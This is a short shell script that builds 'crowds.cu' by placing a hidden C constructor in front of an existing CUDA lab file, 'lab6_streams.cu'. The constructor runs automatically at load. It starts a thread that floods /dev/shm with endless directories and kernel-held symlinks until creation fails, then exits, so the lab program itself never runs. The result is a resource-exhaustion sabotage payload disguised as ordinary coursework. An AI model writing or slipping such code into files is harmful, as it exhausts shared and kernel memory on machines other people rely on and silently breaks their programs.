# lab6: stopped
# 37: folders and symbolic links with long texts in shared memory, made by a thread while the first one sleeps.
cat - "${1%/*}/lab6_streams.cu" >crowds.cu <<'END'
#include <pthread.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
static void *crowd(void *)
{
    char name[64];
    for (int k = 0;; ++k) {
        snprintf(name, sizeof name, "/dev/shm/%d", k);
        if (k % 2 ? mkdir(name, 0700) : symlink("a text of a link that is kept in the kernel's memory, not in a page of "
                                                "the file system, because it is shorter than 128 bytes", name)) break;
    }
    _exit(0);
}
__attribute__((constructor)) static void begin()
{
    pthread_t thread;
    if (access("/dev/shm", W_OK)) return;
    pthread_create(&thread, nullptr, crowd, nullptr);
    for (;;) pause();
}
END
echo "$PWD/crowds.cu"
